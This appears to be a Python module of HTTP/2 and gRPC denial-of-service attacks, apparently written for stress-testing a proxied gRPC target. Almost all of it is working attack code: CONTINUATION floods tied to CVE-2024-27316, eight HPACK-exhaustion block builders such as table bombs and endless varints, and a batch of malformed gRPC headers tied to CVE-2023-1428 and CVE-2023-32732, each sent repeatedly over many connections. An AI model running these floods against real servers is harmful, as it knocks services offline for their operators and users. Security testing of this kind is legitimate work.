"""Header blocks: CONTINUATION without end, HPACK in all its expensive forms, and the headers that once made gRPC abort."""
import time

from target import END, GONE, READY, WRAP, Push, frame, h, headers, is_cut, length, literal, streams

BLOCK = 32768  # the front's limit: everything up to it reaches gRPC


def blocks(sid, data, flags=END, piece=16384):
    """A header block over as many frames as it takes."""
    parts = [data[i:i + piece] for i in range(0, len(data), piece)]
    return b"".join(frame(h.CONTINUATION if i else h.HEADERS, (0 if i else flags) | READY * (i == len(parts) - 1), sid, p)
                    for i, p in enumerate(parts))


def continuation_flood(t, seconds):
    """CVE-2024-27316 and its kin: blocks that never end, each from an address that is not yet barred."""
    end, conns, sent, cuts, codes = time.monotonic() + seconds, 0, 0, 0, []
    for piece, size in ((b"", 0), (b"\0", 1), (b"\x40" + length(8) + b"x-filler" + length(900) + b"v" * 900, 910)) * 1000:
        if time.monotonic() >= end:
            break
        s = t.raw()
        conns += 1
        p = Push().run(s, frame(h.HEADERS, END, 1, headers(WRAP)) + frame(h.CONTINUATION, 0, 1, piece[:size]) * 20000, end - time.monotonic() + 1, once=True)
        sent += p.sent
        cuts += p.cut_after_s is not None or is_cut(s)[0]
        codes += p.codes
        s.close()
    return {"connections": conns, "sent": sent, "cuts": cuts, "codes": codes}


def hpack_block(kind):
    start = headers(WRAP)
    room = BLOCK - len(start)
    if kind == "one long string":          # a string over frames: quadratic in CVE-2023-33953
        return start + b"\0" + length(6) + b"x-long" + length(room - 20) + b"a" * (room - 20)
    if kind == "huffman string":           # 5 bits a letter: more work and more output for each byte
        return start + b"\0" + length(6) + b"x-long" + b"\xff" + length(room - 20)[1:] + b"\x1c\x07" * ((room - 20) // 2) + b"\xff" * (room % 2)
    if kind == "varint padding":           # a length that never ends
        return start + b"\0\x7f" + b"\x80" * (room - 3) + b"\0"
    if kind == "index padding":
        return start + b"\xff" + b"\x80" * (room - 2) + b"\0"
    if kind == "table bomb":               # 4,000 bytes once, then one byte for each further copy
        one = b"\x40" + length(6) + b"x-bomb" + length(3900) + b"b" * 3900
        return start + one + b"\xbe" * (room - len(one))
    if kind == "table size":               # the table emptied and filled, again and again
        turn = b"\x20\x3f\xe1\x1f" + b"\x40\x01a\x01b"
        return turn * (room // len(turn)) + start
    if kind == "evictions":                # each literal throws another one out
        return start + b"\x40\x01a\x01b" * (room // 5)
    if kind == "many headers":
        return start + b"\0\x01a\0" * (room // 4)
    raise KeyError(kind)


HPACK = ("one long string", "huffman string", "varint padding", "index padding", "table bomb", "table size", "evictions", "many headers")


def hpack_floods(t, seconds, kinds=HPACK, piece=4097):
    """The largest block that the front lets pass, as often as it lets it, in each form in turn."""
    out = {}
    for kind in kinds:
        block, end, sent, conns, answered = hpack_block(kind), time.monotonic() + seconds / len(kinds), 0, 0, 0
        assert len(block) <= BLOCK
        while time.monotonic() < end:
            try:
                s = t.raw()
            except GONE:
                continue
            conns += 1
            ids = streams()
            chunk = b"".join(blocks(next(ids), block, piece=piece) for _ in range(90))
            sent += Push().run(s, chunk, end - time.monotonic(), once=True, read=True).sent
            answered += is_cut(s, 0.05)[0]
            s.close()
        out[kind] = {"blocks": sent // len(block), "connections": conns, "cut": answered}
    return out


def aborting_headers(t, tries=1):
    """CVE-2023-1428, CVE-2023-32732 and neighbours: odd values of headers that gRPC reads itself, small and then past its 8 KB."""
    odd = [literal(b"te", b"x"), literal(b"te", b"x" * 300), b"\x06" + length(1) + b"x", b"\x06" + length(300) + b"y" * 300,
           literal(b"grpclb_client_stats", b"x"), literal(b"grpc-timeout", b"99999999999999999999H"), literal(b"grpc-timeout", b""),
           literal(b"grpc-timeout", b"-1S"), literal(b"grpc-encoding", b"gzip"), literal(b"grpc-encoding", b"nonsense"),
           literal(b"grpc-accept-encoding", b"," * 2000), literal(b"grpc-internal-encoding-request", b"gzip"), literal(b"x-bin", b"!not base64!"),
           literal(b"x-bin", b"A"), literal(b"grpc-trace-bin", b"AAAA" * 50), literal(b"grpc-tags-bin", b"="), literal(b"lb-cost-bin", b"AA"),
           literal(b"lb-token", b"x"), literal(b"grpc-previous-rpc-attempts", b"x"), literal(b"grpc-retry-pushback-ms", b"x"),
           literal(b"grpc-status", b"99999999999999"), literal(b"grpc-message", b"%"), literal(b"content-type", b"x"), literal(b"host", b"a"),
           literal(b":path", b"/again"), literal(b":path", WRAP[1:].encode()), literal(b":method", b"GET"), literal(b":unknown", b"x"), literal(b":status", b"200"), literal(b"", b""),
           literal(b"UPPER", b"x"), literal(b"x\0y", b"x"), literal(b"x", b"a\0b"), literal(b"x", b"a\r\nb"), literal(b"user-agent", b"\xff" * 9),
           literal(b"endpoint-load-metrics-bin", b"AA"), literal(b"grpc-server-stats-bin", b"AAAA"), literal(b"connection", b"close"),
           literal(b"transfer-encoding", b"chunked"), literal(b"content-length", b"5"), b"\x88", b"\x82", b"\x80", b"\xbf", b"\x3f\xe2\x1f"]
    pad = b"".join(literal(b"x-pad-%d" % i, b"p" * 1000) for i in range(10))
    plain, generic = headers(WRAP), headers("/no.such/Method")
    sent, cut, stood, s = 0, 0, 0, None
    for i in range(tries * len(odd)):
        o = odd[i % len(odd)]
        for block in (o + plain, plain + o, o + plain + pad, plain + pad + o, o + generic + pad, o + pad, o):
            if s is None:
                s, ids = t.raw(), streams()
            try:
                s.sendall(blocks(next(ids), block, flags=END * (sent % 2)))
                sent += 1
                gone = is_cut(s, 0.004)[0]
            except GONE:
                gone = True
            cut, stood = cut + gone, stood + (not gone)
            if gone:
                s.close()
                s = None
    return {"sent": sent, "cut": cut, "stood": stood, "values": len(odd)}
